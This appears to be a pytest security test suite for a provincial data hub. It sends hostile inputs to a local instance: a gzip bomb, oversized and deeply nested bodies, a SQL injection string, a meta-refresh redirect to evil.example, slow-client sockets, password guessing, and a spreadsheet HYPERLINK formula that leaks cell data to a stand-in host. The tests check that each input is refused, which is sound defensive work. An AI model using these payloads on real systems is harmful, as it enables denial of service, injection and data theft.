"""The provincial hub attacked from outside (coord/attack.md): a real hub process on a real
PostgreSQL, hostile requests over real TCP. Oversized and malformed batches get a clear 4xx and
cost no memory before the token is known; nothing of a refused batch is stored."""

from __future__ import annotations

import gzip
import json
import socket
import time
import uuid
import zlib
from datetime import UTC, datetime
from pathlib import Path

import httpx
import psycopg
import pytest
from province_helpers import PASSWORD, Hub, add_user, new_database, serving_hub

from province.auth import add_centre
from province.db import migrate

pytestmark = pytest.mark.slow
MB = 1024 * 1024


@pytest.fixture(scope="module")
def hub(tmp_path_factory):
    yield from serving_hub(tmp_path_factory.mktemp("hub"), ("w1", "w2"), "so-noi-vu")


def _peak_mb(h: Hub) -> float:
    for line in Path(f"/proc/{h.proc.pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1]) / 1024
    raise AssertionError("no VmHWM")


def _event(seq: int, data: dict, *, kind: str = "ticket", at: float | None = None) -> dict:
    return {"uid": uuid.uuid4().hex, "seq": seq, "kind": kind, "at": at or time.time(), "data": data}


def _ticket(token: str, day: str, seq: int) -> dict:
    now = time.time()
    return _event(seq, {"token": token, "day": day, "service": "A", "state": "waiting", "issued_at": now})


def _post(h: Hub, token: str, content: bytes, **headers) -> httpx.Response:
    return httpx.post(h.url + "/api/v1/ingest", content=content, timeout=120,
                      headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json", **headers})


def _count(dsn: str, sql: str, *args) -> int:
    with psycopg.connect(dsn) as c:
        return c.execute(sql, args).fetchone()[0]


def test_an_unknown_token_is_refused_before_its_body_is_read(hub):
    h, _, _ = hub
    before = _peak_mb(h)

    def body():
        block = b" " * MB
        for _ in range(100):
            yield block

    try:
        r = httpx.post(h.url + "/api/v1/ingest", content=body(), timeout=60, headers={"Authorization": "Bearer forged"})
        assert r.status_code == 401
    except httpx.TransportError:
        pass  # the hub answered and closed while the body was still being sent: refused all the same
    # 100 MB from a caller with no valid token: the hub did not buffer it (it used to: +300 MB)
    assert _peak_mb(h) - before < 40
    assert httpx.get(h.url + "/healthz").status_code == 200


def test_a_gzip_bomb_is_refused_without_inflating_it(hub):
    h, tokens, _ = hub
    co = zlib.compressobj(9, zlib.DEFLATED, 31)
    bomb = b"".join(co.compress(b" " * MB) for _ in range(300)) + co.flush()  # 300 MB of JSON in ~300 KB
    before = _peak_mb(h)
    r = _post(h, tokens["w1"], bomb, **{"Content-Encoding": "gzip"})
    assert r.status_code == 413, r.text
    assert _peak_mb(h) - before < 200  # at most the 64 MB inflation limit (it used to inflate all 300 MB)
    r = _post(h, tokens["w1"], bomb[:2000], **{"Content-Encoding": "gzip"})  # a cut gzip stream
    assert r.status_code == 400 and "gzip" in r.json()["detail"]


def test_oversized_bodies_get_413_before_anything_reads_them(hub):
    h, tokens, _ = hub
    with socket.create_connection(("127.0.0.1", h.port), timeout=10) as s:  # a terabyte announced, never sent
        s.sendall(f"POST /api/v1/ingest HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {tokens['w1']}\r\n"
                  f"Content-Length: {10**12}\r\n\r\n".encode())
        assert s.recv(200).startswith(b"HTTP/1.1 413")
    # the login form (anonymous): 1 MB of form is refused, not parsed
    r = httpx.post(h.url + "/login", data={"name": "a" * MB, "password": "x", "csrf_token": "x"}, timeout=10)
    assert r.status_code == 413


def test_malformed_json_gets_400_not_500(hub):
    h, tokens, _ = hub
    deep = b"[" * 100_000 + b"]" * 100_000
    assert _post(h, tokens["w1"], deep).status_code == 400  # was a RecursionError: 500
    assert _post(h, "forged", deep).status_code == 401  # was 500 before the token was even checked
    assert _post(h, tokens["w1"], b'{"centre": "w1\xff"}').status_code == 400
    assert _post(h, tokens["w1"], b'{"centre": "w1", "events": [{"at": NaN}]}').status_code == 400


def test_a_batch_missing_required_fields_is_a_clear_422_and_stores_nothing(hub):
    h, tokens, dsn = hub
    day = datetime.now(UTC).date().isoformat()
    bad = [_ticket("t-good-1", day, 1), _event(2, {"token": "t-no-service", "day": day})]
    r = _post(h, tokens["w1"], json.dumps({"centre": "w1", "events": bad}).encode())
    assert r.status_code == 422, r.text  # a NOT NULL violation used to be a 500
    assert "service" in r.json()["detail"]
    assert _count(dsn, "SELECT count(*) FROM events WHERE uid = %s", uuid.UUID(bad[0]["uid"])) == 0
    assert _count(dsn, "SELECT count(*) FROM tickets WHERE token = 't-good-1'") == 0
    ok = {"centre": "w1", "events": [bad[0]]}
    r = _post(h, tokens["w1"], gzip.compress(json.dumps(ok).encode()), **{"Content-Encoding": "gzip"})
    assert r.status_code == 200 and r.json()["stored"] == 1


def test_replays_other_centres_and_injection_strings(hub):
    h, tokens, dsn = hub
    day = datetime.now(UTC).date().isoformat()
    evil = "x'); DROP TABLE events; --"
    batch = json.dumps({"centre": "w1", "events": [_ticket(evil, day, 10)]}).encode()
    first, again = _post(h, tokens["w1"], batch), _post(h, tokens["w1"], batch)
    assert (first.json()["stored"], again.json()["stored"], again.json()["duplicates"]) == (1, 0, 1)
    assert _count(dsn, "SELECT count(*) FROM tickets WHERE centre_id = 'w1' AND token = %s", evil) == 1
    # w2's token cannot write w1's batch; the forged centre name changes nothing
    assert _post(h, tokens["w2"], batch).status_code == 403
    assert _count(dsn, "SELECT count(*) FROM events WHERE centre_id = 'w2'") == 0


def test_a_batch_larger_than_any_centre_sends_is_refused(hub):
    h, tokens, _ = hub
    events = [{"uid": f"{i:032x}", "seq": i + 1, "kind": "setting", "at": 1.8e9, "data": {}} for i in range(20_001)]
    r = _post(h, tokens["w2"], json.dumps({"centre": "w2", "events": events}).encode())
    assert r.status_code == 422 and "20000" in r.json()["detail"]


def test_a_ward_with_its_clock_in_2099_does_not_move_the_dashboard(hub):
    h, tokens, dsn = hub
    day = datetime.now(UTC).date()
    batch = [_ticket("now-1", day.isoformat(), 100), _event(101, {
        "token": "future-1", "day": "2099-12-31", "service": "A", "state": "waiting", "issued_at": 4.1e9}, at=4.1e9)]
    assert _post(h, tokens["w2"], json.dumps({"centre": "w2", "events": batch}).encode()).json()["stored"] == 2
    with httpx.Client(base_url=h.url) as client:
        page = client.get("/login")
        csrf = page.text.split('name="csrf_token" value="', 1)[1].split('"', 1)[0]
        client.post("/login", data={"name": "so-noi-vu", "password": PASSWORD, "csrf_token": csrf, "next": "/"})
        period = client.get("/api/v1/wards").json()["period"]
    assert period == f"{day.year:04d}-{day.month:02d}"  # was "2099-12": every ward's figures hidden


def test_a_bad_period_is_not_reflected_as_html(hub):
    h, _, _ = hub
    evil = '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
    with httpx.Client(base_url=h.url) as client:
        page = client.get("/login")
        csrf = page.text.split('name="csrf_token" value="', 1)[1].split('"', 1)[0]
        client.post("/login", data={"name": "so-noi-vu", "password": PASSWORD, "csrf_token": csrf, "next": "/"})
        for path in ("/", "/ward/w1", "/report", "/api/v1/wards"):
            r = client.get(path, params={"period": evil})
            assert r.status_code == 422
            # the message quotes the input: never as HTML (CSP stops scripts, not a <meta> redirect)
            assert not r.headers["content-type"].startswith("text/html"), path
            for edge in ("9999-12", "9999-Q4", "9999-12-31"):  # no next month or day: these were 500s
                assert client.get(path, params={"period": edge}).status_code == 422, (path, edge)


def test_a_slow_client_is_cut_off(hub):
    h, _, _ = hub
    idle, partial = socket.create_connection(("127.0.0.1", h.port)), socket.create_connection(("127.0.0.1", h.port))
    partial.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")  # headers never finished
    time.sleep(11.5)  # staff.httpguard.HEADER_TIMEOUT_S = 10
    for s in (idle, partial):
        s.settimeout(2)
        assert s.recv(100) == b""  # closed by the hub (it used to keep them for ever)
        s.close()


def test_own_logins_do_not_reopen_the_address_for_guessing(hub):  # last: it locks 127.0.0.1 out
    h, _, dsn = hub
    add_user(dsn, "insider")

    def attempt(client, name, password):
        page = client.get("/login")
        csrf = page.text.split('name="csrf_token" value="', 1)[1].split('"', 1)[0]
        return client.post("/login", data={"name": name, "password": password, "csrf_token": csrf, "next": "/"})

    statuses = []
    with httpx.Client(base_url=h.url) as client:
        for victim in ("v1", "v2", "v3", "v4", "v5", "v6"):
            statuses += [attempt(client, victim, f"guess-{i}").status_code for i in range(4)]
            statuses.append(attempt(client, "insider", PASSWORD).status_code)  # 303, or 429 once locked
    # 20 failures from one address lock it (5 x 4) although the insider logged in between
    # (before, each own login reset the address's count and every guess was tried)
    assert 429 in statuses
    assert statuses.count(401) <= 20


def test_a_hub_whose_connections_are_all_held_answers_503_soon():
    """Every request waited 60 s for one of the four database connections and was then a 500
    (the dashboard, logins, every ward's batch): now a 503 with Retry-After after the pool's wait,
    which the sync agent retries, and the hub serves again once a connection is free."""
    from fastapi.testclient import TestClient

    from province.app import create_app

    dsn = new_database()
    app = create_app(dsn, pool_wait_s=0.5)
    with TestClient(app) as client:
        assert client.get("/healthz").status_code == 200
        pool = app.state.pool
        held = [pool.conn() for _ in range(pool.size)]
        for cm in held:
            cm.__enter__()
        try:
            t = time.monotonic()
            r = client.get("/healthz")
            assert r.status_code == 503 and r.headers["retry-after"] == "5"
            assert time.monotonic() - t < 5
            r = client.get("/login")
            assert r.status_code == 503 and "thử lại" in r.text
        finally:
            for cm in held:
                cm.__exit__(None, None, None)
        assert client.get("/healthz").status_code == 200


def test_ward_names_are_not_formulas_in_the_reports():
    """A ward named '=HYPERLINK(…)' (the hub operator's text) was a live formula in the monthly
    report's XLSX (openpyxl writes a string starting with '=' as a formula) and a bare one in its
    CSV; both now carry it as text, as the ward's own reports do (centre.reports.csv_safe)."""
    import csv as csv_module
    import io

    import openpyxl

    from province import report
    from province.queries import parse_period

    dsn = new_database()
    migrate(dsn)
    name = '=HYPERLINK("http://x.invalid/?"&A1,"Mở")'
    with psycopg.connect(dsn, autocommit=True) as c:
        add_centre(c, "w9", name)
        rep = report.build(c, parse_period("2026-10"), None)
    rows = list(csv_module.reader(io.StringIO(report.to_csv(rep).decode("utf-8-sig"))))
    assert ["'" + name] == [r[0] for r in rows if name in r[0]]
    sheet = openpyxl.load_workbook(io.BytesIO(report.to_xlsx(rep)))["Bao cao"]
    cells = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str) and name in cell.value]
    assert cells and all(cell.data_type == "s" and cell.value == "'" + name for cell in cells)
